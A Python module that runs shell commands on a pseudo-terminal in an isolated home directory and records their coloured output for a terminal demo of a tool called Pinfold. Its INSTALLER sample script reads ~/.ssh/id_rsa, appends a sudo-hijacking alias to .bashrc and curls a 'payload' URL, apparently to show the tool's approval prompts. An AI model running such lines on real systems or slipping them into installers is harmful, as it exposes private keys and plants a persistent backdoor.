# recording.py: runs commands on a pseudo-terminal and returns the lines that a reader sees, with their colours.
# Invariant: the commands have ended when record() returns; it fails if one waits longer than LONG. The caller gives the process a mount namespace.
# Not here: drawing the lines (drawing.py).
import dataclasses
import fcntl
import os
import pty
import re
import select
import shutil
import struct
import subprocess
import termios
import time

from drawing import COLUMNS

LONG = 60
PROMPT_ENDS = "then Enter:"
INSTALLER = """#!/bin/sh
cat ~/.ssh/id_rsa
echo 'alias sudo=./x' >> ~/.bashrc
curl -sS https://example.org/payload
echo installed > result.txt && cat result.txt
"""


@dataclasses.dataclass
class Line:
    """`typed`: characters of a command before which the reader sees a prompt; 0 for output."""

    cells: list  # (character, frozenset of SGR numbers)
    typed: int = 0
    pause: float = 0  # seconds before it appears


class PrivateHome:
    """/home/you with a project, in a mount namespace in which this process is alone."""

    def __init__(self, pinfold):
        subprocess.run(["mount", "-t", "tmpfs", "-o", "mode=755", "pinfold-picture", "/home"], check=True)
        self.path = "/home/you"
        self.project = os.path.join(self.path, "project")
        for directory in ("project", ".ssh", "data", "bin"):
            os.makedirs(os.path.join(self.path, directory))
        shutil.copy(pinfold, os.path.join(self.path, "bin", "pinfold"))
        self.write(".ssh/id_rsa", "an example, not a key\n")
        self.write(".bashrc", "")
        self.write("data/prices.csv", "apples,3\npears,4\n")
        self.write("project/install.sh", INSTALLER)
        os.chmod(os.path.join(self.project, "install.sh"), 0o755)
        self.environment = {"HOME": self.path, "PATH": f"{self.path}/bin:/usr/bin:/bin", "LANG": "C.UTF-8", "TERM": "xterm-256color"}

    def write(self, name, text):
        with open(os.path.join(self.path, name), "w", encoding="utf-8") as file:
            file.write(text)


def take_terminal(descriptor):
    os.setsid()
    fcntl.ioctl(descriptor, termios.TIOCSCTTY, 0)
    for standard in (0, 1, 2):
        os.dup2(descriptor, standard)


def run_on_terminal(argv, home, keys):
    """The program's output; each of `keys` answers one approval request."""
    terminal, inner = pty.openpty()
    fcntl.ioctl(inner, termios.TIOCSWINSZ, struct.pack("HHHH", 40, COLUMNS, 0, 0))
    pid = os.fork()
    if pid == 0:
        take_terminal(inner)
        os.chdir(home.project)
        os.execvpe(argv[0], argv, home.environment)
    os.close(inner)
    shown, keys, end = b"", list(keys), time.monotonic() + LONG
    try:
        while time.monotonic() < end:
            if not select.select([terminal], [], [], 0.5)[0]:
                # Pinfold takes a key only after the terminal was silent.
                if keys and shown.decode(errors="replace").rstrip().endswith(PROMPT_ENDS):
                    os.write(terminal, keys.pop(0).encode() + b"\n")
                continue
            try:
                data = os.read(terminal, 4096)
            except OSError:  # EIO: the program has closed the terminal
                return shown.decode()
            if b"\x1b[5n" in data:
                os.write(terminal, b"\x1b[0n")
            shown += data.replace(b"\x1b[5n", b"")
        raise TimeoutError(f"{' '.join(argv)} waits for more than {LONG} s; it shows:\n{shown.decode(errors='replace')}")
    finally:
        os.close(terminal)
        os.waitpid(pid, 0)


def to_lines(text):
    """Lines of cells; a cursor movement other than the end of a line or a backspace is an error."""
    # Before a request, Pinfold ends sequences and character sets that the command may have begun.
    text = text.replace("\x18\x1b\\\x1b(B\x0f", "").replace("\r\n", "\n")
    lines, cells, column, style = [], [], 0, frozenset()
    for escape, character in re.findall(r"\x1b\[([0-9;?]*[A-Za-z])|(.)", text, re.S):
        if escape.endswith("m"):
            for number in escape[:-1].split(";"):
                style = frozenset() if number in ("", "0") else style | {int(number)}
        elif escape:
            raise ValueError(f"the picture cannot show ESC [ {escape}")
        elif character == "\n":
            lines.append(Line(cells))
            cells, column = [], 0
        elif character == "\b":
            column -= 1
        elif character >= " ":
            cells[column:column + 1] = [(character, style)]
            column += 1
        else:
            raise ValueError(f"the picture cannot show the control character {character!r}")
    return lines + ([Line(cells)] if cells else [])


def plain(line):
    return "".join(character for character, _ in line.cells)


def record(pinfold, scenes):
    """The lines of all scenes: each command with its prompt, its output, and an empty line."""
    home = PrivateHome(pinfold)
    lines = []
    for command, keys in scenes:
        typed = [("$", frozenset({2})), (" ", frozenset())] + [(one, frozenset({1})) for one in command]
        lines.append(Line(typed, typed=len(command), pause=0.8))
        output = to_lines(run_on_terminal(["sh", "-c", command], home, keys))
        for i, line in enumerate(output):
            # The first line takes as long as a command; a line after a key, as long as a reader of the request.
            line.pause = 0.7 if i == 0 else 1.6 if "Enter: " in plain(output[i - 1]) else 0.04
        lines += output + [Line([])]
    return lines[:-1]
